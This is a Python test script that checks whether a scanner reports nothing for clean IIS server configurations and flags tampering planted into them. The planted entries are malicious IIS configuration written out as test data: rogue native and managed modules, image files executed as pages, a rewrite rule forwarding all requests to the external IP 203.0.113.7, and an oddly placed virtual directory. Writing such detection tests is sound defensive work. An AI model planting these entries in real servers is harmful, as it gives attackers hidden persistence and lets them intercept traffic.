"""Configurations of clean servers give no finding, one that is no XML is a gap, and what is planted
into them is found: test_iis_config_corpora.py ASSAY BUILD"""
import json
import pathlib
import shutil
import subprocess
import sys
import tempfile

from corpora import folder

ASSAY = sys.argv[1]
PLANTED = [
    ("</globalModules>", '<add name="HttpHelper" image="C:\\ProgramData\\x\\helper.dll" />',
     "Native module of IIS from a place where none belongs"),
    ("</globalModules>", '<add name="HttpFlt" image="%windir%\\System32\\inetsrv\\httpflt.dll" />',
     "Native module of IIS that neither Windows nor Exchange ships"),
    ("</modules>", '<add name="Session" type="Acme.Session, Acme" />',
     "Managed module that neither ASP.NET nor Exchange ships"),
    ("</handlers>", '<add name="j" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />',
     "Files of a harmless kind are run as pages"),
    ("</system.webServer>", '<rewrite><rules><rule name="r"><match url=".*" /><action type="Rewrite" '
     'url="http://203.0.113.7/{R:0}" /></rule></rules></rewrite>',
     "Requests are passed on to another server"),
    ("</application>", '<virtualDirectory path="/z" physicalPath="C:\\ProgramData\\COM1\\z" />',
     "Virtual directory that points to an odd place"),
]
failed = 0


def check(what, ok, got=""):
    global failed
    if not ok:
        failed += 1
        print(f"FAILED: {what} {got}")


def scan(path):
    out = subprocess.run([ASSAY, "scan", "--format", "json", str(path)], capture_output=True)
    return json.loads(out.stdout)


clean = folder(sys.argv[2]) / "iis-config"
told = scan(clean)
check("clean configurations give no finding", told["findings"] == [],
      [f["rule"]["title"] for f in told["findings"]])
check("the malformed one is a gap, and no other",
      [pathlib.Path(g["path"]).name for g in told["gaps"]] == ["BadApplicationHost.config"], told["gaps"])
for host in sorted(clean.rglob("applicationHost*.config")):
    text = host.read_text(encoding="utf-8-sig")
    for before, what, title in PLANTED:
        with tempfile.TemporaryDirectory() as work:
            place = pathlib.Path(work) / "C/Windows/System32/inetsrv/config/applicationHost.config"
            place.parent.mkdir(parents=True)
            at = text.rindex(before)
            place.write_text(text[:at] + what + text[at:], encoding="utf-8")
            titles = [f["rule"]["title"] for f in scan(work)["findings"]]
            check(f"{host.name}: {title}", titles == [title], titles)
            shutil.rmtree(place.parent)
sys.exit(1 if failed else 0)
